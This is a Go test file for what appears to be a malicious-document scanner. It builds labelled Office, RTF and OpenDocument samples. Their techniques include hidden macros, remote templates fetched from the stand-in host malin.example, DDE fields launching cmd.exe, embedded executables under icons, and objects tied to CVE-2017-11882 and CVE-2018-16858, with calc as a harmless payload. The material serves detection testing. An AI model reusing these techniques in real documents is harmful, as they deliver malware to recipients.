package triagetest

import (
	"strings"

	"estran/session"
)

const (
	macros   = session.ReasonMacros
	embedded = session.ReasonEmbedded
	remote   = session.ReasonRemote
	inside   = session.ReasonInside
	program  = session.ReasonProgram
	installs = session.ReasonInstaller
	shortcut = session.ReasonShortcut
	twoEnds  = session.ReasonTwoExtensions
	hidden   = session.ReasonHiddenName
	mismatch = session.ReasonExtensionMismatch
)

// fieldOf is a field of Word in runs of a few letters each, as an instruction is hidden from a search.
func fieldOf(pieces ...string) string {
	s := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`
	for _, piece := range pieces {
		s += `<w:r><w:rPr><w:b/></w:rPr><w:instrText xml:space="preserve">` + piece + `</w:instrText></w:r>`
	}
	return s + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
}

// activeOffice are Office documents that run, hold or fetch something.
func activeOffice() []Entry {
	vba := file("word/vbaProject.bin", vbaBin())
	settings := func(template string) []byte {
		return docx(para("Facture"), rel("rId2", "settings", "settings.xml"),
			p("word/settings.xml", xmlHead+`<w:settings `+wordNS+`><w:attachedTemplate r:id="rId1"/></w:settings>`),
			p("word/_rels/settings.xml.rels", relations(external("rId1", "attachedTemplate", template))))
	}
	const externalLink = `<externalLink ` + sheetNS + `>`
	return []Entry{
		hostile("facture.docm", "macros", func() []byte { return docm(rel("rId2", "vbaProject", "vbaProject.bin"), vba) }, macros),
		hostile("facture.docx", "macros, under the name of a document without", func() []byte { return docm(rel("rId2", "vbaProject", "vbaProject.bin"), vba) }, macros),
		hostile("devis.docx", "macros under another name: the relation alone tells", func() []byte {
			return docm(rel("rId2", "vbaProject", "printerSettings.bin"), file("word/printerSettings.bin", vbaBin()))
		}, macros, inside),
		hostile("budget.xlsm", "macros", func() []byte {
			return xlsx("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "", rel("rId2", "vbaProject", "vbaProject.bin"), file("xl/vbaProject.bin", vbaBin()))
		}, macros),
		hostile("cours.pptm", "macros", func() []byte {
			return pptx("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", "", file("ppt/vbaProject.bin", vbaBin()))
		}, macros),
		hostile("releve.xlsm", "macros of Excel 4, in a sheet that is hidden", func() []byte {
			return xlsx("application/vnd.ms-excel.sheet.macroEnabled.main+xml", `<sheet name="M" sheetId="2" state="veryHidden" r:id="rId2"/>`,
				`<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>`,
				p("xl/macrosheets/sheet1.xml", xmlHead+`<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></xm:macrosheet>`))
		}, macros),
		hostile("offre.docx", "its template comes from a site", func() []byte { return settings("https://malin.example/a.dotm") }, remote),
		hostile("offre 2.docx", "the same, in capitals and by an address in figures", func() []byte { return settings("HTTP://3232235521/a.dotm") }, remote),
		hostile("offre 3.docx", "the same in UTF-16, which Word reads as well", func() []byte {
			text := relations(external("rId1", "attachedTemplate", "https://malin.example/a.dotm"))
			return docx(para("x"), rel("rId2", "settings", "settings.xml"),
				p("word/settings.xml", xmlHead+`<w:settings `+wordNS+`><w:attachedTemplate r:id="rId1"/></w:settings>`),
				file("word/_rels/settings.xml.rels", join([]byte("\xff\xfe"), wide(strings.Replace(text, "UTF-8", "UTF-16", 1)))))
		}, remote),
		hostile("offre 4.docx", "the same in the strict form of the standard, with other quotes and an escaped letter", func() []byte {
			return docx(para("x"), rel("rId2", "settings", "settings.xml"),
				p("word/settings.xml", xmlHead+`<w:settings `+wordNS+`><w:attachedTemplate r:id="rId1"/></w:settings>`),
				p("word/_rels/settings.xml.rels", relations(`<Relationship TargetMode = 'External' Id='rId1' Target='&#104;ttps://malin.example/a.dotm' `+
					`Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate'></Relationship>`)))
		}, remote),
		clean("photo de vacances.docx", "a picture that stays on a site, as Word links it when it is pasted from there", func() []byte {
			return docx(para("x"), external("rId2", "image", "http://malin.example/p.png?id=7"))
		}),
		hostile("bon de commande.docx", "an object that comes from a site", func() []byte {
			return docx(`<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="htmlfile" r:id="rId2"/></w:object>`,
				external("rId2", "oleObject", "mhtml:http://malin.example/a.html!x-usc:http://malin.example/a.html"))
		}, remote),
		hostile("page web.docx", "a frame that comes from a site", func() []byte {
			return docx(para("x"), rel("rId2", "webSettings", "webSettings.xml"),
				p("word/webSettings.xml", xmlHead+`<w:webSettings `+wordNS+`><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`),
				p("word/_rels/webSettings.xml.rels", relations(external("rId1", "frame", "http://malin.example/a.html"))))
		}, remote),
		hostile("enquête.docx", "starts a program by DDE; the field is in pieces", func() []byte {
			return docx(fieldOf("DD", "EAU", "TO ", `c:\\windows\\system32\\cmd.exe `, `"/k calc.exe"`), "")
		}, remote),
		hostile("enquête 2.docx", "the same in a simple field", func() []byte {
			return docx(`<w:p><w:fldSimple w:instr=" DDE  cmd.exe &quot;/c calc&quot; a "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`, "")
		}, remote),
		hostile("prix.xlsx", "starts a program by DDE", func() []byte {
			return xlsx(bookKind, "", rel("rId2", "externalLink", "externalLinks/externalLink1.xml"),
				p("xl/externalLinks/externalLink1.xml", xmlHead+externalLink+`<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`))
		}, remote),
		clean("prix 2.xlsx", "looks up a workbook of a site, as people share them; Excel asks first", func() []byte {
			return xlsx(bookKind, "", rel("rId2", "externalLink", "externalLinks/externalLink1.xml"),
				p("xl/externalLinks/externalLink1.xml", xmlHead+externalLink+`<externalBook r:id="rId1"/></externalLink>`),
				p("xl/externalLinks/_rels/externalLink1.xml.rels", relations(external("rId1", "externalLinkPath", "https://malin.example/a.xlsx"))))
		}),
		hostile("justificatif.docx", "a program under an icon", func() []byte {
			return docx(`<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="rId2"/></w:object>`,
				rel("rId2", "oleObject", "embeddings/oleObject1.bin"), file("word/embeddings/oleObject1.bin", packageBin("facture.exe", pe())))
		}, embedded, inside, program),
		hostile("justificatif.xlsx", "a script under an icon", func() []byte {
			return xlsx(bookKind, "", "", p("xl/worksheets/_rels/sheet1.xml.rels", relations(rel("rId1", "oleObject", "../embeddings/oleObject1.bin"))),
				file("xl/embeddings/oleObject1.bin", packageBin("facture.js", []byte("new ActiveXObject('WScript.Shell').Run('calc');\r\n"))))
		}, embedded, inside, program),
		hostile("questionnaire.docx", "a control of ActiveX", func() []byte {
			return docx(para("x"), rel("rId2", "control", "activeX/activeX1.xml"),
				p("word/activeX/activeX1.xml", xmlHead+`<ax:ocx ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:persistence="persistStorage" r:id="rId1" xmlns:r="`+officeNS+`"/>`),
				p("word/activeX/_rels/activeX1.xml.rels", relations(`<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/>`)),
				file("word/activeX/activeX1.bin", cfbFile(nil, file("Contents", noise(38, 200)))))
		}, embedded),
		hostile("kiosque.pptx", "starts a program when a picture is clicked", func() []byte {
			return pptx(vndOpen+"presentationml.presentation.main+xml", external("rId1", "hyperlink", `file:///C:\Windows\System32\cmd.exe`),
				p("ppt/slides/slide2.xml", xmlHead+`<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="`+officeNS+`"><a:hlinkClick r:id="rId1" action="ppaction://program"/></p:sld>`),
				p("ppt/slides/_rels/slide2.xml.rels", relations(external("rId1", "hyperlink", `file:///C:\Windows\System32\cmd.exe`))))
		}, remote),
	}
}

// activeOldOffice are documents of before 2007, and RTF.
func activeOldOffice() []Entry {
	return []Entry{
		hostile("vieux modèle.doc", "macros", func() []byte { return doc(vbaProject("Macros/")...) }, macros),
		hostile("vieux budget.xls", "macros", func() []byte {
			return xls(boundSheet("Budget", sheetVisible, sheetCells), vbaProject("_VBA_PROJECT_CUR/")...)
		}, macros),
		hostile("facture.xls", "macros of Excel 4, in a sheet that is hidden", func() []byte {
			return xls(join(boundSheet("Facture", sheetVisible, sheetCells), boundSheet("Macro1", sheetVeryHidden, sheetMacros)))
		}, macros),
		hostile("facture 2.xls", "macros of Excel 4 in a sheet that is seen", func() []byte {
			return xls(join(boundSheet("Macro1", sheetVisible, sheetMacros), boundSheet("Facture", sheetVisible, sheetCells)))
		}, macros),
		hostile("facture jointe.doc", "a program under an icon", func() []byte {
			return doc(file("ObjectPool/_1234567890/\x01Ole10Native", ole10("facture.exe", pe())), file("ObjectPool/_1234567890/\x03ObjInfo", make([]byte, 6)))
		}, embedded, inside, program),
		hostile("convocation 2.msg", "a message of Outlook with a program", func() []byte { return msg(file("convocation.exe", pe())) }, inside, program),
		hostile("bon.rtf", "an object of the equation editor (CVE-2017-11882)", text(`{\rtf1{\object\objemb{\*\objclass Equation.3}{\*\objdata 01050000020000000b0000004571756174696f6e2e3300000000000000000000040000`+"\n"+
			hexOf(noise(55, 600))+`}}\par}`), embedded),
		hostile("bon 2.rtf", "the same, the class cut by spaces and groups, updated when it is opened", text(`{\rtf1{\object\objocx{\*\objdata 0105{\*\unknown abc}0000`+"\n"+`02000000 0b000000 45 71 75 61 7469 6f6e 2e33 00 `+
			hexOf(noise(56, 600))+`}\objupdate}}`), embedded),
		hostile("facture.rtf", "a program under an icon", func() []byte {
			head := join(le32(0x501), le32(2), le32(8), []byte("Package\x00"), le32(0), le32(0))
			native := ole10("facture.exe", pe())[4:]
			return []byte(`{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata ` + hexOf(join(head, le32(len(native)), native)) + `}}}`)
		}, embedded, inside, program),
		hostile("modele.rtf", "its template comes from a site", text(`{\rtf1\ansi{\*\template http://malin.example/a.dotm}Bonjour\par}`), remote),
		hostile("facture RTF.doc", "RTF with an object, under the name of a Word document", text(`{\rtf1{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 01050000010000000f000000576f72642e446f63756d656e742e3800}}}`), embedded),
	}
}

// activeOpenDocuments are OpenDocument files that run, hold or fetch something.
func activeOpenDocuments() []Entry {
	auto := p("Module1", `Sub Main&#10;Shell(&quot;calc&quot;)&#10;End Sub`)
	return []Entry{
		hostile("tombola.odt", "a Basic macro", func() []byte { return odf("text", odfText("x"), basic(auto)...) }, macros),
		hostile("comptes.ods", "a Basic macro that runs when it is opened", func() []byte {
			return odf("spreadsheet", `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" `+
				`xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`+
				`<office:body><office:spreadsheet/></office:body>`, basic(auto)...)
		}, macros),
		hostile("liste.odt", "a script in Python", func() []byte {
			return odf("text", odfText("x"), p("Scripts/python/a.py", "import os\ndef main(*a):\n    os.system('calc')\n"))
		}, macros, inside, program),
		hostile("survol.odt", "a script of the program itself when the mouse comes over (CVE-2018-16858)", func() []byte {
			return odf("text", odfText(`<text:a xlink:type="simple" xlink:href="http://x"><office:event-listeners><script:event-listener script:language="ooo:script" `+
				`script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:../../../program/python-core/lib/pydoc.py$tempfilepager?language=Python&amp;location=share"/></office:event-listeners>x</text:a>`))
		}, macros),
		hostile("compte rendu.fodt", "a macro in one XML file", text(`<?xml version="1.0" encoding="UTF-8"?><office:document `+odfNS+
			` office:mimetype="application/vnd.oasis.opendocument.text"><office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office">`+
			`<ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Main: Shell "calc": End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script></office:scripts>`+
			odfText("x")+`</office:document>`), macros),
		hostile("rapport.odt", "a section that comes from a site", func() []byte {
			return odf("text", odfText(`<text:section text:name="a"><text:section-source xlink:href="http://malin.example/a.odt" xlink:type="simple"/></text:section>`))
		}, remote),
		clean("photo.odt", "a picture that stays on a site", func() []byte {
			return odf("text", odfText(`<draw:frame><draw:image xlink:href="http://malin.example/p.png" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>`))
		}),
		hostile("facture.odt", "a program under an icon", func() []byte {
			return odf("text", odfText(`<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>`), file("Object 1", packageBin("facture.exe", pe())))
		}, embedded, inside, program),
		hostile("tarifs.ods", "asks a program by DDE", func() []byte {
			return odf("spreadsheet", `<office:body><office:spreadsheet><table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="a" office:automatic-update="true"/></table:dde-link></table:dde-links></office:spreadsheet></office:body>`)
		}, remote),
	}
}
